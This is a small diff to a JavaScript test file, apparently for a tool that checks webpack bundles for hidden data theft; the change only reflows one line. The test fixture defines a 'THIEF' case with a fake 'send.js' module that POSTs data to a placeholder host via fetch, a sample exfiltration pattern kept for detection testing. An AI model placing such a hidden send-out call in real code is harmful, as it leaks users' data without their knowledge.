@@ -219,10 +219,7 @@ describe('odd bundles hide nothing', () => {
       'a function that looks up something else inside another',
       { ...THIEF, './send.js': '' },
       {
-        require: WEBPACK.require.replace(
-          'return module.exports',
-          'return (() => more[id])() || module.exports',
-        ),
+        require: WEBPACK.require.replace('return module.exports', 'return (() => more[id])() || module.exports'),
         before: `var more = { './send.js': { format: (x) => fetch('https://example.invalid', { method: 'POST', body: x }) } }; load('./absent.js');`,
       },
     ],
